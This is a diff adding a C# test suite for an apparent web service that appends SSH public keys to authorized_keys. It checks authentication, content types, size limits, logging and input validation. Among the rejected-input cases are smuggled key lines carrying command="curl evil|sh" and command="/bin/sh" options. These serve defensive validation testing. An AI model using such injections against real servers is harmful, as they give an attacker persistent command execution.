@@ -1,0 +1,250 @@
+using System.Net;
+using System.Net.Http.Headers;
+using System.Text;
+using Microsoft.Extensions.Logging;
+using StackKit.Server.Keys;
+using StackKit.Server.Tests.Support;
+
+namespace StackKit.Server.Tests;
+
+public sealed class AddPublicKeyApiTests : IDisposable
+{
+    private const string Username = "deploy";
+    private const string Password = "correct horse battery staple";
+    private const string FormContentType = "application/x-www-form-urlencoded";
+
+    private readonly TempSshDirectory ssh = new();
+    private readonly ServiceFactory factory;
+    private readonly HttpClient client;
+
+    public AddPublicKeyApiTests()
+    {
+        factory = new ServiceFactory(ssh.Path, Username, Password);
+        client = factory.CreateClient();
+    }
+
+    public void Dispose()
+    {
+        client.Dispose();
+        factory.Dispose();
+        ssh.Dispose();
+    }
+
+    [Fact]
+    public async Task Get_root_says_Hi()
+    {
+        using var response = await client.GetAsync(new Uri("/", UriKind.Relative));
+
+        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
+        Assert.Equal("Hi", await response.Content.ReadAsStringAsync());
+    }
+
+    [Fact]
+    public async Task The_original_README_body_is_accepted_as_curl_sends_it()
+    {
+        var line = TestKeys.Rsa(4096, "user@laptop");
+        var body = TestKeys.ReadmeBody(line + "\n");
+        Assert.Contains("\n", body, StringComparison.Ordinal);
+
+        using var response = await PostAsync(body, FormContentType);
+
+        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
+        Assert.Equal($"Key successfully saved:\n{line}\n", await response.Content.ReadAsStringAsync());
+        Assert.Equal([line], ssh.AuthorizedKeyLines());
+    }
+
+    [Theory]
+    [InlineData("application/json")]
+    [InlineData("application/json; charset=utf-8")]
+    public async Task A_plain_JSON_body_with_an_unwrapped_key_is_accepted(string contentType)
+    {
+        var line = TestKeys.Ed25519();
+
+        using var response = await PostAsync(TestKeys.JsonBody(line), contentType);
+
+        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
+        Assert.Equal([line], ssh.AuthorizedKeyLines());
+    }
+
+    public static TheoryData<string, string, string> BadBodies()
+    {
+        var key = TestKeys.Ed25519();
+        var blob = key.Split(' ')[1];
+        string Base64(string text) => Convert.ToBase64String(Encoding.UTF8.GetBytes(text));
+        string Body(string text) => $"{{\"ssh_public_key\": \"{Base64(text)}\"}}";
+        return new()
+        {
+            { "second key after a newline", TestKeys.ReadmeBody(key + "\n" + TestKeys.Ed25519() + "\n"), "more than one line" },
+            { "command= line after a newline", Body(key + "\ncommand=\"curl evil|sh\" " + TestKeys.Ed25519()), "more than one line" },
+            { "options prefix", Body("command=\"/bin/sh\" " + key), "options" },
+            { "type mismatch", Body("ssh-rsa " + blob), "the line says 'ssh-rsa'" },
+            { "DSA", Body("ssh-dss " + TestKeys.Blob("ssh-dss", new byte[128], new byte[20], new byte[128], new byte[128])), "DSA" },
+            { "short RSA", TestKeys.ReadmeBody(TestKeys.Rsa(1024) + "\n"), "at least 2048" },
+            { "truncated blob", Body("ssh-ed25519 " + blob[..^8]), "truncated" },
+            { "blob not base64", Body("ssh-ed25519 " + blob.Replace('A', '*')), "not valid base64" },
+            { "value not base64", "{\"ssh_public_key\": \"not base64!\"}", "not valid base64" },
+            { "CRLF line ending", Body(key + "\r\n"), "carriage return" },
+            { "two trailing newlines", Body(key + "\n\n"), "more than one line" },
+            { "NUL", Body(key + "\0"), "U+0000" },
+            { "over-long line", Body(key + " " + new string('c', 9000)), "at most 8192" },
+            { "empty body", "", "empty" },
+            { "empty key", "{\"ssh_public_key\": \"\"}", "not valid base64" },
+            { "not JSON", "ssh_public_key=" + Base64(key), "not valid JSON" },
+            { "JSON array", "[\"" + Base64(key) + "\"]", "not an object" },
+            { "JSON number", "{\"ssh_public_key\": 42}", "must be a JSON string" },
+            { "wrong property", "{\"key\": \"" + Base64(key) + "\"}", "Unexpected property 'key'" },
+            { "extra property", "{\"ssh_public_key\": \"" + Base64(key) + "\", \"user\": \"root\"}", "Unexpected property 'user'" },
+            { "duplicate property", "{\"ssh_public_key\": \"" + Base64(key) + "\", \"ssh_public_key\": \"" + Base64(key) + "\"}", "Unexpected property" },
+            { "no property", "{}", "no ssh_public_key" },
+            { "CR inside the base64", "{\"ssh_public_key\": \"" + TestKeys.GnuBase64(key + "\n").Replace("\n", "\r\n", StringComparison.Ordinal) + "\"}", "not valid JSON" },
+            { "empty line inside the base64", "{\"ssh_public_key\": \"" + TestKeys.GnuBase64(key + "\n").Replace("\n", "\n\n", StringComparison.Ordinal) + "\"}", "not base64 wrapping" },
+            { "space inside the base64", "{\"ssh_public_key\": \"" + Base64(key).Insert(8, " ") + "\"}", "not valid base64" },
+            { "not UTF-8", "{\"ssh_public_key\": \"" + Convert.ToBase64String([0xff, 0xfe, 0x41, 0x42]) + "\"}", "UTF-8" },
+        };
+    }
+
+    [Theory]
+    [MemberData(nameof(BadBodies))]
+    public async Task Bad_input_is_rejected_with_the_reason_and_the_files_unchanged(string name, string body, string reason)
+    {
+        var before = await SeedOneKeyAsync();
+
+        using var response = await PostAsync(body, FormContentType);
+
+        Assert.True(response.StatusCode == HttpStatusCode.BadRequest, name);
+        Assert.Contains(reason, await response.Content.ReadAsStringAsync(), StringComparison.Ordinal);
+        Assert.Equal(before, ssh.Snapshot());
+    }
+
+    [Fact]
+    public async Task A_huge_body_is_refused_with_413_and_the_files_unchanged()
+    {
+        var before = await SeedOneKeyAsync();
+        var huge = TestKeys.JsonBody(TestKeys.Ed25519(new string('x', 20_000)));
+
+        using var response = await PostAsync(huge, "application/json");
+        using var chunked = await PostAsync(new StreamContent(new MemoryStream(Encoding.UTF8.GetBytes(huge))), "application/json");
+
+        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, response.StatusCode);
+        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, chunked.StatusCode);
+        Assert.Equal(before, ssh.Snapshot());
+    }
+
+    [Theory]
+    [InlineData("text/plain")]
+    [InlineData("multipart/form-data; boundary=x")]
+    [InlineData("application/json; charset=latin1")]
+    [InlineData(null)]
+    public async Task Other_content_types_are_refused_with_415(string? contentType)
+    {
+        var before = await SeedOneKeyAsync();
+
+        using var response = await PostAsync(TestKeys.JsonBody(TestKeys.Ed25519()), contentType);
+
+        Assert.Equal(HttpStatusCode.UnsupportedMediaType, response.StatusCode);
+        Assert.Equal(before, ssh.Snapshot());
+    }
+
+    [Theory]
+    [InlineData(null)]
+    [InlineData("Basic")]
+    [InlineData("Bearer abc")]
+    [InlineData("Basic !!!")]
+    [InlineData("Basic ZGVwbG95")]
+    [InlineData("Basic ZGVwbG95Ondyb25n")]
+    [InlineData("Basic YWRtaW46c2VjcmV0")]
+    public async Task Wrong_or_missing_credentials_get_401_with_a_challenge(string? authorization)
+    {
+        var before = await SeedOneKeyAsync();
+        using var request = new HttpRequestMessage(HttpMethod.Post, "/add_public_key")
+        {
+            Content = new StringContent(TestKeys.JsonBody(TestKeys.Ed25519()), Encoding.UTF8, "application/json"),
+        };
+        if (authorization is not null)
+        {
+            request.Headers.TryAddWithoutValidation("Authorization", authorization);
+        }
+
+        using var response = await client.SendAsync(request);
+
+        Assert.Equal(HttpStatusCode.Unauthorized, response.StatusCode);
+        Assert.Equal("Basic", Assert.Single(response.Headers.WwwAuthenticate).Scheme);
+        Assert.Equal(before, ssh.Snapshot());
+    }
+
+    [Fact]
+    public async Task Each_added_key_logs_one_line_with_fingerprint_and_comment_and_no_secrets()
+    {
+        var line = TestKeys.Ed25519("alice@laptop");
+        var body = TestKeys.ReadmeBody(line + "\n");
+
+        using var response = await PostAsync(body, FormContentType);
+
+        var key = OpenSshPublicKey.Parse(line);
+        var records = factory.Logs.GetSnapshot();
+        var added = Assert.Single(records, r => r.Id.Id == 1);
+        Assert.Equal(LogLevel.Information, added.Level);
+        Assert.Contains(added.StructuredState!, pair => pair.Key == "Fingerprint" && pair.Value == key.Fingerprint);
+        Assert.Contains(added.StructuredState!, pair => pair.Key == "Comment" && pair.Value == "alice@laptop");
+        Assert.All(records, r =>
+        {
+            Assert.DoesNotContain(Password, r.Message, StringComparison.Ordinal);
+            Assert.DoesNotContain(key.Blob, r.Message, StringComparison.Ordinal);
+            Assert.DoesNotContain(body[20..60], r.Message, StringComparison.Ordinal);
+        });
+    }
+
+    [Fact]
+    public async Task The_default_credentials_work_with_a_loud_warning_and_configured_ones_without()
+    {
+        using var defaults = new ServiceFactory(ssh.Path, username: null, password: null);
+        using var defaultsClient = defaults.CreateClient();
+        defaultsClient.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Basic", "YWRtaW46c2VjcmV0");
+
+        using var response = await defaultsClient.PostAsync(new Uri("/add_public_key", UriKind.Relative),
+            new StringContent(TestKeys.JsonBody(TestKeys.Ed25519()), Encoding.UTF8, "application/json"));
+
+        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
+        Assert.Contains(defaults.Logs.GetSnapshot(), r => r.Level == LogLevel.Warning && r.Message.Contains("default credentials", StringComparison.Ordinal));
+        Assert.DoesNotContain(factory.Logs.GetSnapshot(), r => r.Level == LogLevel.Warning);
+    }
+
+    [Fact]
+    public void A_user_name_with_a_colon_stops_the_service_at_start()
+    {
+        using var colon = new ServiceFactory(ssh.Path, "ad:min", Password);
+
+        var error = Assert.Throws<Microsoft.Extensions.Options.OptionsValidationException>(() => colon.CreateClient());
+
+        Assert.Contains("Username", error.Message, StringComparison.Ordinal);
+    }
+
+    private async Task<Dictionary<string, string>> SeedOneKeyAsync()
+    {
+        using var response = await PostAsync(TestKeys.JsonBody(TestKeys.Ed25519("seed")), "application/json");
+        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
+        return ssh.Snapshot();
+    }
+
+    private Task<HttpResponseMessage> PostAsync(string body, string? contentType)
+    {
+        var content = new ByteArrayContent(Encoding.UTF8.GetBytes(body));
+        return PostAsync(content, contentType);
+    }
+
+    private async Task<HttpResponseMessage> PostAsync(HttpContent content, string? contentType)
+    {
+        using (content)
+        {
+            if (contentType is not null)
+            {
+                content.Headers.ContentType = MediaTypeHeaderValue.Parse(contentType);
+            }
+
+            using var request = new HttpRequestMessage(HttpMethod.Post, "/add_public_key") { Content = content };
+            request.Headers.Authorization = new AuthenticationHeaderValue("Basic",
+                Convert.ToBase64String(Encoding.UTF8.GetBytes($"{Username}:{Password}")));
+            return await client.SendAsync(request);
+        }
+    }
+}
